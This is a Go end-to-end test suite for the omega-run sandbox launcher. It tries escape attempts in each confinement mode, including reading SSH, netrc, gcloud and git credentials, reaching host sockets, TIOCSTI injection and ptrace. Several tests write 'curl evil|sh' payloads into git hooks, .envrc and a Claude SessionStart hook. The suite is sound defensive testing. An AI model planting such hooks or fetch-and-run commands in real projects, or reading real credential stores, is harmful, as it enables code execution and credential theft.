//go:build linux

package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// escape is one attempt to get out, judged from outside. point is the
// number of the hardening requirement it checks (0: still works).
type escape struct {
	name  string
	point int
	// try runs omega-run in mode and reports whether the attempt got
	// through (or, for point 0, whether the work succeeded).
	try func(t *testing.T, w *world, mode string) bool
	// through says per mode whether it should get through; rwx is the
	// control showing that the attempt works when nothing confines it.
	through map[string]bool
}

var (
	controlOnly = map[string]bool{"rwx": true}
	rxOpen      = map[string]bool{"rwx": true, "rx": true} // rx leaves this open (README)
	allModes    = map[string]bool{"rwx": true, "rx": true, "sandbox": true}
)

func secretAt(t *testing.T, w *world, rel string) string {
	p := filepath.Join(w.home, rel)
	mustMkdir(t, filepath.Dir(p))
	writeFile(t, p, "SECRET")
	chownTree(t, w.home, w.u)
	return p
}

var escapes = []escape{
	// 1. credential stores
	{"cred-dir-read", 1, func(t *testing.T, w *world, mode string) bool {
		p := secretAt(t, w, ".ssh/id_ed25519")
		return strings.Contains(w.run("--mode", mode, "--", probe, "read", p).stdout, "SECRET")
	}, rxOpen},
	{"cred-file-read", 1, func(t *testing.T, w *world, mode string) bool {
		p := secretAt(t, w, ".netrc")
		return strings.Contains(w.run("--mode", mode, "--", probe, "read", p).stdout, "SECRET")
	}, rxOpen},
	{"cred-nested-read", 1, func(t *testing.T, w *world, mode string) bool {
		p := secretAt(t, w, ".config/gcloud/credentials.db")
		return strings.Contains(w.run("--mode", mode, "--", probe, "read", p).stdout, "SECRET")
	}, rxOpen},
	{"cred-git-xdg-read", 1, func(t *testing.T, w *world, mode string) bool { // git's credential store, XDG place
		p := secretAt(t, w, ".config/git/credentials")
		return strings.Contains(w.run("--mode", mode, "--", probe, "read", p).stdout, "SECRET")
	}, rxOpen},
	{"cred-write", 1, func(t *testing.T, w *world, mode string) bool {
		p := secretAt(t, w, ".ssh/authorized_keys")
		w.run("--mode", mode, "--", probe, "write", p)
		b, _ := os.ReadFile(p)
		return string(b) != "SECRET"
	}, controlOnly},
	{"hide-flag", 1, func(t *testing.T, w *world, mode string) bool {
		p := secretAt(t, w, "private/key")
		args := []string{"--mode", mode, "--hide", filepath.Dir(p), "--", probe, "read", p}
		if mode == "rwx" {
			args = append(args[:2], args[4:]...) // the control: no --hide
		}
		r := w.run(args...)
		if mode == "rx" && r.code != 125 {
			t.Errorf("--hide in rx: exit %d, want 125 (cannot be enforced)", r.code)
		}
		return strings.Contains(r.stdout, "SECRET")
	}, map[string]bool{"rwx": true}},
	// 2. host sockets and the private /tmp
	{"host-socket-tmp", 2, func(t *testing.T, w *world, mode string) bool {
		path := "/tmp/omega-esc-" + filepath.Base(w.home[:len(w.home)-5]) + ".sock"
		got := listenUnix(t, path)
		w.run("--mode", mode, "--", probe, "connect-unix", path)
		return got()
	}, rxOpen},
	{"host-socket-run", 2, func(t *testing.T, w *world, mode string) bool {
		path := "/run/omega-esc-" + filepath.Base(filepath.Dir(w.home)) + ".sock"
		got := listenUnix(t, path)
		w.run("--mode", mode, "--", probe, "connect-unix", path)
		return got()
	}, rxOpen},
	{"host-socket-elsewhere", 6, func(t *testing.T, w *world, mode string) bool {
		path := filepath.Join(root, "esc-"+filepath.Base(filepath.Dir(w.home))+".sock")
		got := listenUnix(t, path)
		w.run("--mode", mode, "--", probe, "connect-unix", path)
		return got()
	}, rxOpen},
	{"host-socket-bound-later", 6, func(t *testing.T, w *world, mode string) bool {
		path := filepath.Join(root, "late-"+filepath.Base(filepath.Dir(w.home))+".sock")
		return bindAfterStart(t, w, path, "--mode", mode, "--", probe, "connect-unix-later", path)
	}, rxOpen},
	{"host-socket-bound-later-relative", 6, func(t *testing.T, w *world, mode string) bool {
		name := "l-" + worldID(w) + ".sock"
		return bindAfterStart(t, w, filepath.Join(root, name),
			"--mode", mode, "--workdir", root, "--", probe, "connect-unix-later", name)
	}, rxOpen},
	{"connect-address-race", 6, func(t *testing.T, w *world, mode string) bool {
		// Short paths: both must fit sun_path's 108 bytes.
		own, host := "/tmp/own-"+worldID(w)+".sock", filepath.Join(root, "r-"+worldID(w)+".sock")
		t.Cleanup(func() { os.Remove(own) })
		return bindAfterStart(t, w, host, "--mode", mode, "--", probe, "connect-race", own, host)
	}, rxOpen},
	{"io-uring-past-the-broker", 6, func(t *testing.T, w *world, mode string) bool {
		// A profile that allows everything, io_uring included: only the
		// broker's own rule stands in the way.
		prof := filepath.Join(w.home, "allow-all.json")
		writeFile(t, prof, `{"defaultAction": "SCMP_ACT_ALLOW", "syscalls": []}`)
		args := []string{"--mode", mode, "--seccomp", prof}
		if mode == "rwx" {
			args = args[:2] // the control: rwx refuses a profile it would not apply
		}
		return w.run(append(args, "--", probe, "io-uring")...).code == 0
	}, rxOpen},
	{"allow-socket-swapped-for-symlink", 6, func(t *testing.T, w *world, mode string) bool {
		// An --allow-socket in /tmp, whose directory the program swaps
		// for one where the allowed name leads to a host socket.
		dir := "/tmp/oa-" + worldID(w)
		mustMkdir(t, dir)
		t.Cleanup(func() { os.RemoveAll(dir); os.RemoveAll(dir + ".moved") })
		allowed := dir + "/a.sock"
		listenUnix(t, allowed)
		chownTree(t, dir, w.u)
		host := filepath.Join(root, "sw-"+worldID(w)+".sock")
		return bindAfterStart(t, w, host, "--mode", mode, "--allow-socket", allowed, "--", probe, "swap-allowed", allowed, host)
	}, rxOpen},
	{"leaked-dir-fd-in-pid1", 6, func(t *testing.T, w *world, mode string) bool {
		// A directory fd the caller leaks must not let PID 1, which
		// resolves paths for the program, reach a masked host socket.
		host := filepath.Join(root, "lk-"+worldID(w)+".sock")
		got := listenUnix(t, host)
		// At fd 9: the launcher's own fds 3… (the spec) would cover a lower one.
		w.runWith(nil, leakedRoots(t, 7), bin, "--mode", mode, "--", probe, "connect-unix", "/proc/self/fd/9"+host)
		return got()
	}, controlOnly},
	{"own-socket-dgram", 0, func(t *testing.T, w *world, mode string) bool {
		ws := filepath.Join(w.dataDir, "workspace")
		return w.run("--mode", mode, "--workdir", ws, "--", probe, "own-socket-dgram", "own.dgram").code == 0
	}, allModes},
	{"own-socket-abstract", 0, func(t *testing.T, w *world, mode string) bool {
		name := "omega-own-" + filepath.Base(filepath.Dir(w.home))
		return w.run("--mode", mode, "--", probe, "own-socket-abstract", name).code == 0
	}, allModes},
	{"allow-socket-elsewhere", 0, func(t *testing.T, w *world, mode string) bool {
		path := filepath.Join(root, "ok-"+filepath.Base(filepath.Dir(w.home))+".sock")
		got := listenUnix(t, path)
		w.run("--mode", mode, "--allow-socket", path, "--", probe, "connect-unix", path)
		return got()
	}, allModes},
	{"own-socket-works", 0, func(t *testing.T, w *world, mode string) bool {
		// Relative: test paths are longer than sun_path's 108 bytes.
		ws := filepath.Join(w.dataDir, "workspace")
		return w.run("--mode", mode, "--workdir", ws, "--", probe, "own-socket", "own.sock").code == 0
	}, allModes},
	{"allow-socket", 0, func(t *testing.T, w *world, mode string) bool {
		path := "/run/omega-allow-" + filepath.Base(filepath.Dir(w.home)) + ".sock"
		got := listenUnix(t, path)
		w.run("--mode", mode, "--allow-socket", path, "--", probe, "connect-unix", path)
		return got()
	}, allModes},
	{"ssh-agent-env", 2, func(t *testing.T, w *world, mode string) bool {
		r := w.runEnv([]string{"SSH_AUTH_SOCK=/tmp/agent.sock"}, "--mode", mode, "--", "/bin/sh", "-c", `echo "[$SSH_AUTH_SOCK]"`)
		return strings.Contains(r.stdout, "agent.sock")
	}, rxOpen},
	{"abstract-socket", 2, func(t *testing.T, w *world, mode string) bool {
		name := "@omega-esc-" + filepath.Base(filepath.Dir(w.home))
		got := listenUnix(t, name)
		w.run("--mode", mode, "--", probe, "connect-unix", name)
		return got()
	}, controlOnly},
	{"private-tmp", 2, func(t *testing.T, w *world, mode string) bool {
		name := "omega-left-" + filepath.Base(filepath.Dir(w.home))
		t.Cleanup(func() { os.Remove("/tmp/" + name) })
		w.sh(mode, "echo hi > /tmp/"+name)
		return w.exists("/tmp/" + name) // reached the host's /tmp
	}, rxOpen},
	{"private-tmp-kept", 0, func(t *testing.T, w *world, mode string) bool {
		w.sh(mode, "echo hi > /tmp/kept")
		return w.exists(filepath.Join(w.dataDir, "tmp", "kept"))
	}, map[string]bool{"sandbox": true}},
	// 3. read-only subtrees and files that run later
	{"read-only-flag", 3, func(t *testing.T, w *world, mode string) bool {
		dir := filepath.Join(w.extra, "keep")
		mustMkdir(t, dir)
		chownTree(t, dir, w.u)
		args := []string{"--allow-write", w.extra, "--read-only", dir}
		if mode == "rwx" {
			args = args[:2] // the control: same write, no --read-only
		}
		r := w.sh(mode, "echo x > "+dir+"/f", args...)
		if mode == "rx" && r.code != 125 {
			t.Errorf("--read-only in rx: exit %d, want 125 (cannot be enforced)", r.code)
		}
		return w.exists(filepath.Join(dir, "f"))
	}, controlOnly},
	{"git-hook", 3, func(t *testing.T, w *world, mode string) bool {
		repo := gitRepo(t, w)
		w.sh(mode, "echo 'curl evil|sh' > "+repo+"/.git/hooks/pre-commit")
		return w.exists(repo + "/.git/hooks/pre-commit")
	}, rxOpen},
	{"git-config", 3, func(t *testing.T, w *world, mode string) bool {
		repo := gitRepo(t, w)
		w.sh(mode, "echo '[core] fsmonitor = evil' >> "+repo+"/.git/config")
		b, _ := os.ReadFile(repo + "/.git/config")
		return strings.Contains(string(b), "evil")
	}, rxOpen},
	{"envrc", 3, func(t *testing.T, w *world, mode string) bool {
		repo := gitRepo(t, w)
		w.sh(mode, "echo 'curl evil|sh' >> "+repo+"/.envrc")
		b, _ := os.ReadFile(repo + "/.envrc")
		return strings.Contains(string(b), "evil")
	}, rxOpen},
	{"claude-project-settings", 3, func(t *testing.T, w *world, mode string) bool {
		p := claudeSettingsAt(t, w, filepath.Join(gitRepo(t, w), ".claude", "settings.json"))
		w.sh(mode, `echo '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl evil|sh"}]}]}}' > `+p)
		b, _ := os.ReadFile(p)
		return strings.Contains(string(b), "evil")
	}, rxOpen},
	{"claude-project-settings-local-writable", 0, func(t *testing.T, w *world, mode string) bool {
		repo := gitRepo(t, w)
		claudeSettingsAt(t, w, filepath.Join(repo, ".claude", "settings.json"))
		p := claudeSettingsAt(t, w, filepath.Join(repo, ".claude", "settings.local.json"))
		w.sh(mode, `echo '{"permissions":{"allow":["Bash(ls)"]}}' > `+p) // "don't ask again"
		b, _ := os.ReadFile(p)
		return strings.Contains(string(b), "Bash(ls)")
	}, allModes},
	{"claude-user-settings-writable-home", 0, func(t *testing.T, w *world, mode string) bool {
		p := claudeSettingsAt(t, w, filepath.Join(w.home, ".claude", "settings.json"))
		w.sh(mode, `echo '{"model":"opus"}' > `+p, "--allow-write", w.home) // ~/.claude is Claude's own
		b, _ := os.ReadFile(p)
		return strings.Contains(string(b), "opus")
	}, allModes},
	{"git-commit-works", 0, func(t *testing.T, w *world, mode string) bool {
		repo := gitRepo(t, w)
		r := w.runEnv(gitEnv, "--mode", mode, "--workdir", repo, "--", "/bin/sh", "-c",
			"echo b > b.txt && git add b.txt && git commit -qm second && git log --oneline | wc -l")
		return strings.TrimSpace(r.stdout) == "2"
	}, allModes},
	{"writable-git-config", 0, func(t *testing.T, w *world, mode string) bool {
		repo := gitRepo(t, w)
		w.sh(mode, "echo hook > "+repo+"/.git/hooks/pre-commit", "--writable-git-config")
		return w.exists(repo + "/.git/hooks/pre-commit")
	}, allModes},
	// 4. the terminal
	{"tiocsti", 4, func(t *testing.T, w *world, mode string) bool {
		out, _ := onPty(t, w, "", "--mode", mode, "--", "/bin/sh", "-c", "echo ready; "+probe+" tiocsti Q")
		return strings.Contains(out, "Q")
	}, controlOnly},
	{"tiocsti-seccomp-none", 4, func(t *testing.T, w *world, mode string) bool {
		out, _ := onPty(t, w, "", "--mode", mode, "--seccomp", "none", "--", "/bin/sh", "-c", "echo ready; "+probe+" tiocsti Q")
		return strings.Contains(out, "Q")
	}, rxOpen},
	// 5. file descriptors and the launcher
	{"leaked-fd", 5, func(t *testing.T, w *world, mode string) bool {
		return w.withFD3(mode, false)
	}, controlOnly},
	{"preserve-fds", 0, func(t *testing.T, w *world, mode string) bool {
		return w.withFD3(mode, true)
	}, allModes},
	{"pid1-exe-write", 5, func(t *testing.T, w *world, mode string) bool {
		return w.run("--mode", mode, "--", probe, "write", "/proc/1/exe").code == 0
	}, nil},
	{"pid1-mem-read", 5, func(t *testing.T, w *world, mode string) bool {
		return w.run("--mode", mode, "--", probe, "read", "/proc/1/environ").code == 0
	}, nil},
	{"pid1-root", 5, func(t *testing.T, w *world, mode string) bool {
		return w.sh(mode, "ls /proc/1/root/").code == 0
	}, nil},
	{"ptrace-pid1", 5, func(t *testing.T, w *world, mode string) bool {
		return w.run("--mode", mode, "--", probe, "ptrace", "1").code == 0
	}, nil},
	// 7. no setuid/setgid files left behind
	{"chmod-setuid", 7, func(t *testing.T, w *world, mode string) bool {
		f := filepath.Join(w.dataDir, "workspace", "suid")
		writeFile(t, f, "#!/bin/sh\n")
		chownTree(t, f, w.u)
		w.run("--mode", mode, "--", probe, "chmod", f, "4755")
		return modeOf(t, f)&os.ModeSetuid != 0
	}, controlOnly},
	{"chmod-setgid", 7, func(t *testing.T, w *world, mode string) bool {
		f := filepath.Join(w.dataDir, "workspace", "sgid")
		writeFile(t, f, "#!/bin/sh\n")
		chownTree(t, f, w.u)
		w.run("--mode", mode, "--", probe, "chmod", f, "2755")
		return modeOf(t, f)&os.ModeSetgid != 0
	}, controlOnly},
	{"create-setuid", 7, func(t *testing.T, w *world, mode string) bool {
		f := filepath.Join(w.dataDir, "workspace", "created")
		w.run("--mode", mode, "--", probe, "create-mode", f, "4755")
		return modeOf(t, f)&os.ModeSetuid != 0
	}, controlOnly},
	// 8. regaining power does not help
	{"nested-userns-unmask", 8, func(t *testing.T, w *world, mode string) bool {
		p := secretAt(t, w, ".ssh/id_rsa")
		r := w.run("--mode", mode, "--", probe, "nested-unmask", filepath.Dir(p), p)
		return strings.Contains(r.stdout, "SECRET")
	}, rxOpen},
	{"nested-userns-write", 8, func(t *testing.T, w *world, mode string) bool {
		w.run("--mode", mode, "--", probe, "nested-remount-write", filepath.Join(w.outside, "sentinel"))
		return sentinelChanged(w)
	}, controlOnly},
	{"signal-outside", 8, func(t *testing.T, w *world, mode string) bool {
		pid, alive := sleeper(t, w)
		w.run("--mode", mode, "--", probe, "kill", sprintf("%d", pid), "15")
		return !alive()
	}, controlOnly},
	{"ptrace-outside", 8, func(t *testing.T, w *world, mode string) bool {
		pid, _ := sleeper(t, w)
		return w.run("--mode", mode, "--", probe, "ptrace", sprintf("%d", pid)).code == 0
	}, controlOnly},
	{"proc-sys-write", 8, func(t *testing.T, w *world, mode string) bool {
		// Writes the current value back: harmless where it gets through.
		return w.sh(mode, "cat /proc/sys/kernel/hostname > /proc/sys/kernel/hostname").code == 0
	}, map[string]bool{}},
	// still works
	{"read-system-files", 0, func(t *testing.T, w *world, mode string) bool {
		return strings.Contains(w.sh(mode, "cat /etc/passwd").stdout, "root:")
	}, allModes},
	{"spawn-children", 0, func(t *testing.T, w *world, mode string) bool {
		return strings.Contains(w.sh(mode, `sh -c 'sh -c "echo nested"'`).stdout, "nested")
	}, allModes},
	{"resolve-localhost", 0, func(t *testing.T, w *world, mode string) bool {
		return w.sh(mode, "getent hosts localhost").code == 0
	}, allModes},
	{"tcp-localhost", 0, func(t *testing.T, w *world, mode string) bool {
		addr, got := listenTCP(t)
		w.run("--mode", mode, "--", probe, "connect", "tcp4", addr)
		return got()
	}, allModes},
}

// TestEscapes runs every escape as root and as nobody in each mode.
func TestEscapes(t *testing.T) {
	for _, u := range users {
		for _, e := range escapes {
			for _, mode := range []string{"rwx", "sandbox", "rx"} {
				if mode == "rwx" && !e.through["rwx"] && e.point != 0 {
					continue // no meaningful control for this one
				}
				if mode == "rwx" && e.point == 0 && !e.through["rwx"] {
					continue
				}
				if e.name == "private-tmp-kept" && mode != "sandbox" {
					continue
				}
				t.Run(u.name+"/"+e.name+"/"+mode, func(t *testing.T) {
					w := newWorld(t, u)
					got := e.try(t, w, mode)
					want := e.through[mode]
					if e.name == "proc-sys-write" && mode == "rwx" {
						want = u.uid == 0
					}
					if got != want {
						t.Errorf("got through: %v, want %v", got, want)
					}
				})
			}
		}
	}
}

// leakedRoots are n fds of the host's / for the caller to leak to
// omega-run (fds 3 on), closed when the test ends.
func leakedRoots(t *testing.T, n int) []*os.File {
	t.Helper()
	files := make([]*os.File, n)
	for i := range files {
		f, err := os.Open("/")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { f.Close() })
		files[i] = f
	}
	return files
}
